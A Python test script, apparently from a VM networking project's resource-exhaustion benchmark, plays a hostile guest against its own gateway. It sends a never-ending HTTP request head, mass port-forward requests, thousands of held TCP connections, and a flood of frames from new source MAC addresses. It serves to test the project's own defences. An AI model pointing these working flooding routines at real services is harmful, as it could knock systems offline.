#!/usr/bin/env python3
"""The hostile guest of bench/hostile/rss.sh: each attack of issue 16, item 2, bounded in time.

Run inside the guest's namespace (except flows-server, on the host). Each prints one JSON line with
what it achieved. Traffic goes only to the gateway (192.168.127.1), the host alias (192.168.127.254,
the host's 127.0.0.1), the host's 127.0.0.1 or the guest's own TAP device.

  attack.py headers GATEWAY MAX_BYTES SECONDS LINE_BYTES
  attack.py forwards GATEWAY GUEST_ADDR COUNT FIRST_PORT
  attack.py flows-server PORT
  attack.py flows-client HOST_ALIAS PORT COUNT HOLD_SECONDS
  attack.py macs IFACE API_SOCKET FRAMES SECONDS
"""
import asyncio
import http.client
import json
import socket
import sys
import threading
import time


def headers(gateway, max_bytes, seconds, line_bytes):
    """One request whose head never ends: header lines of LINE_BYTES, each with a new name."""
    value = b"a" * max(1, line_bytes - 14)
    sent = 0
    line_no = 0
    error = ""
    status = ""
    start = time.monotonic()
    s = socket.create_connection((gateway, 80), timeout=10)
    try:
        s.sendall(b"GET /services/forwarder/all HTTP/1.1\r\nHost: gateway\r\n")
        while sent < max_bytes and time.monotonic() - start < seconds:
            lines = max(16, 131072 // line_bytes)
            chunk = b"".join(b"X-%08d: %s\r\n" % (line_no + i, value) for i in range(lines))
            line_no += lines
            s.sendall(chunk)
            sent += len(chunk)
        s.sendall(b"\r\n")
    except OSError as e:
        error = type(e).__name__
    try:
        s.settimeout(5)
        status = s.recv(4096).split(b"\r\n", 1)[0].decode("latin-1")
    except OSError as e:
        status = "no answer (%s)" % type(e).__name__
    s.close()
    print(json.dumps({"sent_bytes": sent, "header_lines": line_no, "send_error": error,
                      "answer": status, "seconds": round(time.monotonic() - start, 2)}))


def forwards(gateway, guest_addr, count, first_port):
    """COUNT forwards asked for at once (8 keep-alive connections): host 127.0.0.1:PORT to the guest."""
    statuses = {}
    lock = threading.Lock()
    workers = 8

    def worker(k):
        conn = None
        for i in range(k, count, workers):
            port = first_port + i
            body = json.dumps({"local": "127.0.0.1:%d" % port, "remote": "%s:%d" % (guest_addr, port),
                               "protocol": "tcp"})
            try:
                if conn is None:
                    conn = http.client.HTTPConnection(gateway, 80, timeout=10)
                conn.request("POST", "/services/forwarder/expose", body, {"Content-Type": "application/json"})
                r = conn.getresponse()
                r.read()
                key = str(r.status)
                if r.will_close:
                    conn.close()
                    conn = None
            except (OSError, http.client.HTTPException) as e:
                key = type(e).__name__
                if conn is not None:
                    conn.close()
                conn = None
            with lock:
                statuses[key] = statuses.get(key, 0) + 1
        if conn is not None:
            conn.close()

    start = time.monotonic()
    threads = [threading.Thread(target=worker, args=(k,)) for k in range(workers)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    print(json.dumps({"asked": count, "answers": statuses, "seconds": round(time.monotonic() - start, 2)}))


def flows_server(port):
    """Accepts every connection on the host's 127.0.0.1:PORT and holds it until its peer closes."""
    async def hold(reader, writer):
        try:
            await reader.read()
        except OSError:
            pass
        writer.close()

    async def serve():
        server = await asyncio.start_server(hold, "127.0.0.1", port, backlog=4096)
        async with server:
            await server.serve_forever()

    asyncio.run(serve())


def flows_client(host, port, count, hold_seconds):
    """COUNT connections to HOST:PORT (at most 200 connecting at once), held for HOLD_SECONDS."""
    outcomes = {}
    held = []

    async def one(gate):
        async with gate:
            try:
                _, writer = await asyncio.wait_for(asyncio.open_connection(host, port), 10)
                held.append(writer)
                key = "connected"
            except (OSError, asyncio.TimeoutError) as e:
                key = type(e).__name__
            outcomes[key] = outcomes.get(key, 0) + 1

    async def run():
        gate = asyncio.Semaphore(200)
        start = time.monotonic()
        await asyncio.gather(*(one(gate) for _ in range(count)))
        print(json.dumps({"asked": count, "outcomes": outcomes, "seconds": round(time.monotonic() - start, 2)}),
              flush=True)
        await asyncio.sleep(hold_seconds)
        for w in held:
            w.close()

    asyncio.run(run())


def api_frames_received(api_socket):
    s = socket.socket(socket.AF_UNIX)
    s.connect(api_socket)
    s.sendall(b"GET /stats HTTP/1.1\r\nHost: berth\r\nConnection: close\r\n\r\n")
    reply = b""
    while True:
        b = s.recv(65536)
        if not b:
            break
        reply += b
    s.close()
    return json.loads(reply.split(b"\r\n\r\n", 1)[1])["FramesReceived"]


def macs(iface, api_socket, frames, seconds):
    """FRAMES frames, each from a new source MAC, paced by what berth-net has read (its /stats) so that
    the TAP device drops none; stops after SECONDS whatever the count."""
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    s.bind((iface, 0))
    dst = bytes.fromhex("020000000001")
    tail = b"\x88\xb5" + bytes(46)  # local experimental ethertype, minimum payload
    base = api_frames_received(api_socket)
    in_flight_max = 6000
    sent = 0
    read = 0
    start = time.monotonic()
    while read < frames and time.monotonic() - start < seconds:
        if sent < frames and sent - read < in_flight_max:
            for i in range(sent, min(sent + 2000, frames)):
                # 06:xx:xx:xx:xx:xx: locally administered, unicast, never the gateway or the guest
                s.send(dst + b"\x06" + (i + 1).to_bytes(5, "big") + tail)
            sent = min(sent + 2000, frames)
        else:
            time.sleep(0.002)
        read = api_frames_received(api_socket) - base
    s.close()
    print(json.dumps({"sent": sent, "read_by_berth_net": read, "seconds": round(time.monotonic() - start, 2)}))


def main(argv):
    attack = argv[1]
    if attack == "headers":
        headers(argv[2], int(argv[3]), float(argv[4]), int(argv[5]))
    elif attack == "forwards":
        forwards(argv[2], argv[3], int(argv[4]), int(argv[5]))
    elif attack == "flows-server":
        flows_server(int(argv[2]))
    elif attack == "flows-client":
        flows_client(argv[2], int(argv[3]), int(argv[4]), float(argv[5]))
    elif attack == "macs":
        macs(argv[2], argv[3], int(argv[4]), float(argv[5]))
    else:
        sys.exit("unknown attack " + attack)


if __name__ == "__main__":
    main(sys.argv)
